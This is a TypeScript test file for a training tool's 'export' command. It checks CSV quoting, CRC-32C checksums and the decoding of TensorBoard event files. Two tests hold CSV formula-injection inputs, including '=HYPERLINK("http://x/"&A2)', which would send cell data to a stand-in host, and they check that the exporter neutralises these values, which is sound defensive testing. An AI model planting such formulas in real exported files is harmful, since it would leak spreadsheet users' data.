// What `export` writes, read back by readers of our own from the rules of both formats.
import { appendFileSync, cpSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { runCommandLine } from "../../src/cli/program.ts";
import { eventFile, maskedCrc } from "../../src/report/export/event-file.ts";
import { exportRuns } from "../../src/report/export/export-runs.ts";
import { csvText } from "../../src/report/export/tables.ts";
import { readRun } from "../../src/report/runs.ts";
import { emptyFolder } from "../support/runs.ts";

/** RFC 4180, a character at a time. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[""]];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const row = rows.at(-1)!;
    const end = row.length - 1;
    if (quoted) {
      if (text[i] !== '"') row[end] = row[end]! + text[i];
      else if (text[i + 1] === '"') row[end] = row[end]! + text[i++];
      else quoted = false;
    } else if (text[i] === '"') quoted = true;
    else if (text[i] === ",") row.push("");
    else if (text.startsWith("\r\n", i)) {
      rows.push([""]);
      i++;
    } else row[end] = row[end]! + text[i];
  }
  return rows.slice(0, -1);
}

/** CRC-32C, a bit at a time: the reflected polynomial 0x82f63b78. */
function crc32c(bytes: Uint8Array): number {
  let crc = 0xffffffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = crc & 1 ? (crc >>> 1) ^ 0x82f63b78 : crc >>> 1;
  }
  return ~crc >>> 0;
}

const unmask = (masked: number): number => {
  const rotated = (masked - 0xa282ead8) >>> 0;
  return ((rotated >>> 17) | (rotated << 15)) >>> 0;
};

type Fields = ReadonlyMap<number, readonly (number | Uint8Array)[]>;

/** The fields of a message of protocol buffers, by number. */
function fieldsOf(bytes: Uint8Array): Fields {
  const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength);
  const fields = new Map<number, (number | Uint8Array)[]>();
  let at = 0;
  const varint = (): number => {
    let value = 0;
    for (let scale = 1; ; scale *= 128) {
      const byte = bytes[at++]!;
      value += (byte & 127) * scale;
      if (byte < 128) return value;
    }
  };
  while (at < bytes.length) {
    const key = varint();
    const take = (length: number): number => {
      at += length;
      return at - length;
    };
    const bytesOf = (length: number): Uint8Array => bytes.subarray(take(length), at);
    const read: Record<number, () => number | Uint8Array> = {
      0: varint,
      1: () => view.getFloat64(take(8), true),
      2: () => bytesOf(varint()),
      5: () => view.getFloat32(take(4), true),
    };
    const value = read[key & 7]!();
    fields.set(key >> 3, [...(fields.get(key >> 3) ?? []), value]);
  }
  return fields;
}

interface ReadEvent {
  readonly step: number;
  readonly wallTime: number;
  readonly version: string | undefined;
  readonly values: Readonly<Record<string, number>>;
}

function readEvents(file: Uint8Array): ReadEvent[] {
  const bytes = Buffer.from(file);
  const events: ReadEvent[] = [];
  const text = (value: unknown): string => Buffer.from(value as Uint8Array).toString();
  for (let at = 0; at < bytes.length; ) {
    const length = Number(bytes.readBigUInt64LE(at));
    const data = bytes.subarray(at + 12, at + 12 + length);
    expect(unmask(bytes.readUInt32LE(at + 8))).toBe(crc32c(bytes.subarray(at, at + 8)));
    expect(unmask(bytes.readUInt32LE(at + 12 + length))).toBe(crc32c(data));
    at += 16 + length;
    const event = fieldsOf(data);
    const summary = event.get(5)?.[0] as Uint8Array | undefined;
    const values = (summary === undefined ? [] : (fieldsOf(summary).get(1) ?? [])).map((value) => {
      const entry = fieldsOf(value as Uint8Array);
      return [text(entry.get(1)![0]), entry.get(2)![0] as number];
    });
    events.push({
      step: Number(event.get(2)?.[0] ?? 0),
      wallTime: event.get(1)![0] as number,
      version: event.has(3) ? text(event.get(3)![0]) : undefined,
      values: Object.fromEntries(values),
    });
  }
  return events;
}

async function trained(name: string, ...args: readonly string[]): Promise<string> {
  const directory = join(emptyFolder(), name);
  const quick = "--preset needle --tasks 4 --final-tasks 5 --workers 0".split(" ");
  const quiet = { out: () => {}, err: () => {} };
  expect(await runCommandLine(["train", ...quick, ...args, "--out", directory], quiet)).toBe(0);
  return directory;
}

describe("event files", () => {
  it("have the checksums of RFC 3720, B.4", () => {
    const ascending = Uint8Array.from({ length: 32 }, (_, i) => i);
    for (const [bytes, crc] of [
      [new Uint8Array(32), 0x8a9136aa],
      [new Uint8Array(32).fill(255), 0x62a8ab43],
      [ascending, 0x46dd794e],
      [ascending.toReversed(), 0x113fdb5c],
      [Buffer.from("123456789"), 0xe3069283],
    ] as const) {
      expect(crc32c(bytes)).toBe(crc);
      expect(unmask(maskedCrc(bytes))).toBe(crc);
    }
  });

  it("hold what was put into them", () => {
    const event = fc.record({
      step: fc.nat(2 ** 40),
      wallTime: fc.double({ min: 0, max: 1e10, noNaN: true }),
      values: fc.dictionary(fc.string({ minLength: 1, unit: "grapheme" }), fc.float({ noNaN: true })),
    });
    fc.assert(
      fc.property(fc.array(event), (events) => {
        const [version, ...read] = readEvents(eventFile(events));
        expect(version?.version).toBe("brain.Event:2");
        expect(read).toEqual(
          events.map((one) => ({ ...one, version: undefined, values: { ...one.values } })),
        );
      }),
    );
  });
});

describe("csv", () => {
  it("comes back as it was, whatever stands in the cells", () => {
    const cell = fc.oneof(
      fc.string({ unit: fc.constantFrom('"', ",", "\r", "\n", "a", " ", "é", "=") }),
      fc.double({ noNaN: true }),
      fc.constant(null),
    );
    const table = fc
      .integer({ min: 2, max: 4 })
      .chain((n) => fc.array(fc.array(cell, { minLength: n, maxLength: n })));
    fc.assert(
      fc.property(table, (rows) => {
        const columns = (rows[0] ?? ["a", "b"]).map((_, i) => `c${i}`);
        const read = readCsv(csvText({ name: "t", columns, rows }));
        expect(read).toEqual([columns, ...rows.map((row) => row.map((one) => String(one ?? "")))]);
        read.slice(1).forEach((row, r) => {
          row.forEach((text, c) => {
            const given = rows[r]![c];
            if (typeof given === "number") expect(Number(text)).toBe(given === 0 ? 0 : given);
          });
        });
      }),
    );
  });
});

describe("export", () => {
  it("writes every number of every line, and names runs apart", async () => {
    const [a, b] = [
      await trained("a/run", "--iterations", "3"),
      await trained("b/run", "--iterations", "2", "--seed", "7"),
    ];
    const out = emptyFolder();
    const { files } = exportRuns([a, b], "csv", out);
    expect(files).toEqual(["metrics", "evaluations", "timings"].map((name) => join(out, `${name}.csv`)));
    const [head, ...rows] = readCsv(readFileSync(files[0]!, "utf8"));
    const lines = [a, b].flatMap((directory) => readRun(directory).metrics);
    expect(rows.length).toBe(5);
    expect(new Set(rows.map(([run]) => run))).toEqual(new Set(["a/run", "b/run"]));
    expect(rows.map(([, seed]) => seed)).toEqual(["0", "0", "0", "7", "7"]);
    rows.forEach((row, i) => {
      for (const [name, value] of Object.entries(lines[i]!))
        expect(row[head!.indexOf(name)]).toBe(String(value));
    });
    const held = readCsv(readFileSync(files[1]!, "utf8"));
    expect(held.length - 1).toBe(
      [a, b].flatMap((run) => readRun(run).evaluations.flatMap(({ returns }) => returns)).length,
    );
  });

  it("names a run whatever its folder is called, and writes no cell that is a formula", async () => {
    const run = await trained("run", "--iterations", "1");
    const folder = emptyFolder();
    const names = ["=1+1", "+1", "-1", "@a", "\t=1", 'a,"b"', "a\nb", "é𝄞"];
    const copies = names.map((name) => {
      cpSync(run, join(folder, name), { recursive: true });
      return join(folder, name);
    });
    const out = emptyFolder();
    for (const file of exportRuns(copies, "csv", out).files) {
      const [head, ...rows] = readCsv(readFileSync(file, "utf8"));
      const shown = [...new Set(rows.map(([name]) => name!))];
      expect(shown.map((name) => join(folder, name))).toEqual(copies);
      for (const cell of [...head!, ...rows.flat()])
        expect(Number.isNaN(Number(cell)) && /^[=+\-@\t\r]/.test(cell)).toBe(false);
      for (const row of rows) expect(row.length).toBe(head!.length);
    }
    const events = exportRuns(copies, "tensorboard", out).files;
    expect(events).toEqual(names.map((name) => join(out, name, "events.out.tfevents.0.sgmrl")));
    for (const file of events) expect(readEvents(readFileSync(file)).length).toBeGreaterThan(1);
  }, 60_000);

  it("gives iterations after lost times their own, not those of others", async () => {
    const run = await trained("run", "--iterations", "6", "--evaluate-every", "3");
    const kept = [0, 1, 4, 5].map((iteration) => JSON.stringify({ iteration, wall: 10 }));
    writeFileSync(join(run, "timings.jsonl"), `${kept.join("\n")}\n`);
    const { files } = exportRuns([run], "tensorboard", emptyFolder());
    const [, ...events] = readEvents(readFileSync(files[0]!));
    const times = (prefix: string) =>
      events
        .filter(({ values }) => Object.keys(values).some((name) => name.startsWith(prefix)))
        .map(({ step, wallTime }) => [step, wallTime]);
    expect(times("train/")).toEqual([
      [0, 10],
      [1, 20],
      [2, 20],
      [3, 20],
      [4, 30],
      [5, 40],
    ]);
    expect(times("evaluation/")).toEqual([
      [0, 0],
      [3, 20],
      [6, 40],
    ]);
  });

  it("writes no column head that is a formula", async () => {
    const run = await trained("run", "--iterations", "1");
    const line = JSON.parse(readFileSync(join(run, "metrics.jsonl"), "utf8"));
    const names = ['=HYPERLINK("http://x/"&A2)', "+a", "-a", "@a"];
    writeFileSync(
      join(run, "metrics.jsonl"),
      `${JSON.stringify({ ...line, ...Object.fromEntries(names.map((name) => [name, 1])) })}\n`,
    );
    const { files } = exportRuns([run], "csv", emptyFolder());
    const [head] = readCsv(readFileSync(files[0]!, "utf8"));
    for (const name of names) expect(head).toContain(`'${name}`);
    for (const cell of head!) expect(cell).not.toMatch(/^[=+\-@]/);
  });

  it("writes events of training and evaluation, in order, with the time that training took", async () => {
    const run = await trained("run", "--iterations", "3", "--evaluate-every", "2");
    const { files } = exportRuns([run], "tensorboard", emptyFolder());
    const [, ...events] = readEvents(readFileSync(files[0]!));
    const { metrics, evaluations, timings } = readRun(run);
    expect(events.length).toBe(metrics.length + evaluations.length);
    for (const line of metrics) {
      const event = events.find(
        ({ step, values }) => step === line.iteration && "train/postReturn" in values,
      )!;
      expect(event.values["train/postReturn"]).toBe(Math.fround(line.postReturn!));
      expect("train/iteration" in event.values).toBe(false);
    }
    for (const { iteration, returns } of evaluations) {
      const name = "evaluation/return after 1 step";
      const event = events.find(({ step, values }) => step === iteration && name in values)!;
      expect(event.values[name]).toBe(Math.fround(returns[1]!.mean));
    }
    const total = timings.reduce((sum, { wall }) => sum + wall!, 0);
    expect(events.at(-1)!.wallTime).toBeCloseTo(total, 10);
    expect(events.map(({ wallTime }) => wallTime)).toEqual(
      events.map((e) => e.wallTime).sort((x, y) => x - y),
    );
    // The same run gives the same file.
    const again = exportRuns([run], "tensorboard", emptyFolder());
    expect(readFileSync(again.files[0]!).equals(readFileSync(files[0]!))).toBe(true);
  });

  it("says what is damaged, what is no run, and what is given twice", async () => {
    const run = await trained("run", "--iterations", "2");
    expect(() => exportRuns([run, run], "csv", emptyFolder())).toThrow("is given twice");
    expect(() => exportRuns([emptyFolder()], "csv", emptyFolder())).toThrow("not the directory of a run");
    appendFileSync(join(run, "metrics.jsonl"), "{}\n");
    expect(exportRuns([run], "csv", emptyFolder()).damage.join()).toContain("metrics.jsonl");
    const told: string[] = [];
    const terminal = { out: () => {}, err: (text: string) => void told.push(text) };
    expect(await runCommandLine(["export", run, "--to", "svc"], terminal)).toBe(2);
    expect(told.join()).toContain('Expected csv or tensorboard. Did you mean "csv"?');
  });
});
